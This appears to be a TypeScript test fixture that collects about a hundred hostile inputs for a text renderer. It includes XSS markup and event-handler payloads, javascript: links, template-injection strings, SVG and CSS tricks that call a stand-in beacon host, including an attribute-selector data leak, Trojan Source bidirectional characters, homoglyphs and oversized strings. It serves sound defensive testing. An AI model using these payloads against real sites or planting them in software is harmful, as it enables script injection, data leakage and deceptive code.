// A hundred texts that try to be more than text: markup, styles, drawings, diagrams, hidden and endless characters. All of it is made here.
const BEACON = 'https://beacon.starling.test';

const MARKUP: readonly string[] = [
  ...['img', 'iframe', 'script', 'embed', 'input type=image', 'video', 'audio', 'source', 'track', 'frame'].map((tag) => `<${tag} src="${BEACON}/${tag.split(' ')[0] ?? ''}">`),
  ...['onerror', 'onload', 'onfocus autofocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onpointerenter', 'onbeforetoggle', 'onwheel', 'oncopy'].map((handler) => `<img src=x ${handler}="window.ran=1"><details open ${handler}="window.ran=1">`),
  '<script>window.ran=1</script>',
  '<script type=module>window.ran=1</script>',
  '<base href="https://beacon.starling.test/">',
  `<link rel=stylesheet href="${BEACON}/a.css">`,
  `<link rel=preload as=image href="${BEACON}/b">`,
  `<meta http-equiv=refresh content="0;url=${BEACON}/meta">`,
  `<object data="${BEACON}/object"></object>`,
  `<form action="${BEACON}/form"><button autofocus>go</button></form>`,
  `<body background="${BEACON}/body">`,
  '<template><img src=x onerror=window.ran=1></template>',
  '</textarea></title></style></script><img src=x onerror=window.ran=1>',
  '<!--><img src=x onerror=window.ran=1>-->',
  '<![CDATA[<img src=x onerror=window.ran=1>]]>',
  '&lt;img src=x onerror=window.ran=1&gt;',
  '"><img src=x onerror=window.ran=1>',
  "'-alert(1)-'",
  'javascript:window.ran=1',
  '<a href="javascript:window.ran=1" autofocus>press</a>',
  '${window.ran=1}',
  '{{constructor.constructor("window.ran=1")()}}',
];

const DRAWINGS: readonly string[] = [
  '<svg onload="window.ran=1"></svg>',
  `<svg><image href="${BEACON}/svg"/></svg>`,
  `<svg><use href="${BEACON}/use#x"/></svg>`,
  '<svg><script>window.ran=1</script></svg>',
  '<svg><animate onbegin="window.ran=1" attributeName=x dur=1s>',
  `<svg><style>@import url(${BEACON}/svgstyle)</style></svg>`,
  `<svg><filter><feImage href="${BEACON}/fe"/></filter></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>parent.window.ran=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>',
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"/>`,
  '```mermaid\ngraph TD; A[<img src=x onerror=window.ran=1>]-->B; click A call window.ran()\n```',
  `\`\`\`plantuml\n@startuml\n!include ${BEACON}/uml\n@enduml\n\`\`\``,
  `\`\`\`dot\ndigraph { a [image="${BEACON}/dot"] }\n\`\`\``,
  '$$\\href{javascript:window.ran=1}{x}$$',
  `\\includegraphics{${BEACON}/tex}`,
];

const STYLES: readonly string[] = [
  `<style>@import url(${BEACON}/css)</style>`,
  `<style>body{background:url(${BEACON}/bg)}</style>`,
  `<div style="background:url(${BEACON}/inline)">`,
  `<style>@font-face{font-family:x;src:url(${BEACON}/font)}*{font-family:x}</style>`,
  '<style>*{display:none!important}</style>',
  '<style>:root{--vscode-editor-background:red}</style>',
  `<style>input[value^=a]{background:url(${BEACON}/leak)}</style>`,
  'expression(window.ran=1)',
  `url(${BEACON}/plain)`,
  `"; background: url(${BEACON}/quote); "`,
];

const MARKDOWN: readonly string[] = [
  `![image](${BEACON}/md)`,
  `[![x](${BEACON}/md2)](${BEACON}/md3)`,
  '[link](javascript:window.ran=1)',
  '[link](command:starling.applyProposal)',
  `<${BEACON}/auto>`,
  `[ref]: ${BEACON}/ref\n![a][ref]`,
  '$(sync~spin) $(error)',
  '# Heading\n- [ ] task\n| a | b |\n|---|---|',
  `[//]: # (${BEACON}/comment)`,
  '\u001b]8;;https://beacon.starling.test/osc\u0007link\u001b]8;;\u0007',
];

const CHARACTERS: readonly string[] = [
  'if (user !== "admin\u202E \u2066// checked\u2069 \u2066") {',
  'const a\u200Bb = 1;',
  'p\u0430ypal.com',
  '\uFEFFbyte order mark',
  'null\u0000byte',
  'bell\u0007 back\u0008\u0008space',
  '\u001B[31mred\u001B[0m',
  'e' + '\u0301'.repeat(500),
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  '\u3164hangul filler\u115F',
  'tag\u{E0041}\u{E0042}characters',
  'variation\uFE0F\uFE0E selectors',
  'lone surrogate \uD800 here',
  'line\u2028separator\u2029paragraph',
  'soft\u00ADhyphen no\u00A0break',
  '\uFFFC\uFFFD object and replacement',
  '\u061C\u200E\u200F\u2067mirrored\u2069',
  '\u{10FFFF}\u{F0000} private',
];

const LONG: readonly string[] = [
  'x'.repeat(6_000),
  'word '.repeat(1_000),
  '\u202E'.repeat(300),
  '<'.repeat(3_000),
  '['.repeat(1_000) + ']'.repeat(1_000),
  '&amp;'.repeat(600),
  '\t'.repeat(500),
  Array.from({ length: 500 }, (_, index) => `line ${index}`).join('\n'),
  '\u6f22'.repeat(3_000),
  '"'.repeat(3_000),
  '\\'.repeat(3_000),
];

export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...DRAWINGS, ...STYLES, ...MARKDOWN, ...CHARACTERS, ...LONG];
